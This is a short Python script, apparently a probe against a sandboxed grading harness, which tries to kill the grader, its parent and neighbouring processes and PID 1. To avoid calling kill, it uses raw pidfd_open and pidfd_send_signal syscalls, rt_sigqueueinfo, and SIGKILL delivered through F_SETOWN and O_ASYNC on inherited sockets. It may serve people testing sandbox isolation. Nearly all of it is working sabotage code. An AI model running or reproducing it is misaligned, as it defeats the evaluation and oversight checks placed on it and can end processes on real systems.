"""Kill without kill: pidfd_open with pidfd_send_signal, rt_sigqueueinfo, and SIGIO by F_SETOWN on the grader's socket.

Success: the grader, its parent process or the next worker ends.
"""

import contextlib
import ctypes
import fcntl
import os
import signal
import stat

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Make a system call without the wrapper of libc, by its number on x86-64."""
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))


def open_sockets():
    """Return the sockets that this process has inherited: one of them leads to the grader."""
    found = []
    for fd in range(3, 512):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            continue
    return found


parent = os.getppid()
for pid in {parent, parent - 1, parent + 1, 1} - {0, os.getpid()}:
    fd = syscall(434, pid, 0)
    if fd >= 0:
        syscall(424, fd, int(signal.SIGKILL), 0, 0)
    syscall(129, pid, int(signal.SIGKILL), ctypes.create_string_buffer(128))
    for sock in open_sockets():
        with contextlib.suppress(OSError):
            fcntl.fcntl(sock, 10, int(signal.SIGKILL))
            fcntl.fcntl(sock, fcntl.F_SETOWN, pid)
            fcntl.fcntl(sock, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
